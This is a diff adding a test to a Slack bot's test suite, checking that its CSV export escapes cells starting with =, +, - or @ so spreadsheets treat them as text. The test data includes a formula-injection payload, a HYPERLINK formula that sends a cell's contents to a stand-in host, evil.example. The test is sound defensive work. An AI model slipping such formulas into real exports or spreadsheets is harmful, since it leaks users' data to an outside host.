@@ -7,13 +7,14 @@ import io
 import json
 import re
 from collections import Counter
-from datetime import timedelta
+from datetime import UTC, datetime, timedelta
 from typing import Any
 
 from sqlmodel import Session, select
 
 from bot.fake_slack import FakeSlack
 from bot.fake_slack.blockkit import VIEW_MAX_BLOCKS, VIEW_MAX_BYTES, validate_view, view_size_bytes
+from bot.record import RecordedEvent, csv_events
 from bot.rendering.home import HOME_PROJECTS_SHOWN
 from storage import queries
 from storage.engine import session_scope
@@ -178,6 +179,21 @@ def test_export_uploads_a_report_and_a_csv_holding_every_event(
     assert "### Evaluations against the bars" in report and "bars pass" in report
     assert "### Rollout stages" in report and "5% of traffic" in report
     assert "retrained \\| with more data" in report  # a pipe in user text does not break the table
+
+
+def test_the_csv_keeps_text_a_spreadsheet_would_run_as_text() -> None:
+    """A reopen reason or a display name starting with `=`, `+`, `-` or `@` is a formula to a
+    spreadsheet opening the export: it is kept text with a leading apostrophe."""
+    formula = '=HYPERLINK("https://evil.example?"&A1,"details")'
+    at = datetime(2026, 11, 27, 10, 0, tzinfo=UTC)
+    events = [
+        RecordedEvent(at, 1, 3, "reopened", "", "UALICE", formula),
+        RecordedEvent(at, 1, 3, "ticked", "narrow-task", "UBOB", "plain words, = inside"),
+    ]
+    names = {"UALICE": "@SUM(1+1)", "UBOB": "-bob"}
+    _, reopened, ticked = list(csv.reader(io.StringIO(csv_events(events, names))))
+    assert (reopened[6], reopened[7]) == ("'@SUM(1+1)", "'" + formula)
+    assert (ticked[4], ticked[6], ticked[7]) == ("narrow-task", "'-bob", "plain words, = inside")
 
 
 def test_export_needs_the_bot_in_the_channel(bot: RunningBot, fake_slack: FakeSlack) -> None:
